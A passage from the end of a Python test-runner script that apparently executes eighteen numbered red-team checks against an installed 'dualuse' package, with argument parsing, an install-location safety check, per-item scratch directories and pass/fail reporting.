        p.returncode == 1 and q.returncode == 0, f"row problems: exit {p.returncode}, with --allow-row-problems {q.returncode}"
    )


ITEMS = {i: globals()[f"item{i}"] for i in range(1, 19)}


def main(argv: list[str] | None = None) -> int:
    """Run the items (all, or ``--only``); 1 when any failed."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default="", help="comma-separated item numbers")
    parser.add_argument("--keep", action="store_true", help="keep the scratch directory")
    args = parser.parse_args(argv)
    where = api(
        "import dualuse, pathlib; print(pathlib.Path(dualuse.__file__).resolve().parent, dualuse.__version__)",
        Path(tempfile.gettempdir()),
    )
    location = where.stdout.strip()
    if where.returncode or location.startswith(str(REPO)):
        print(
            f"refusing: dualuse must be installed in {PY}'s environment, not imported from the checkout ({location or where.stderr})"
        )
        return 2
    print(
        f"dualuse {location.split()[-1]} installed at {location.split()[0]}; python {sys.version.split()[0]}; uid {os.geteuid()}"
    )
    chosen = [int(x) for x in args.only.split(",") if x] or list(ITEMS)
    failed = 0
    work_root = Path(tempfile.mkdtemp(prefix="dualuse-redteam-"))
    try:
        for n in chosen:
            work = work_root / f"item{n}"
            work.mkdir()
            check = Check()
            t0 = time.perf_counter()
            try:
                ITEMS[n](work, check)
            except Exception as exc:  # a check that crashed is a failure, shown with its cause
                check.expect(False, f"check crashed: {type(exc).__name__}: {exc}"[:200])
            status = "FAIL" if check.failed else "PASS"
            failed += status == "FAIL"
            print(f"item {n:2d} {status} ({time.perf_counter() - t0:.0f} s): " + "; ".join(check.failed + check.seen))
            sys.stdout.flush()
    finally:
        if not args.keep:
            shutil.rmtree(work_root, ignore_errors=True)
    print(f"{len(chosen) - failed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
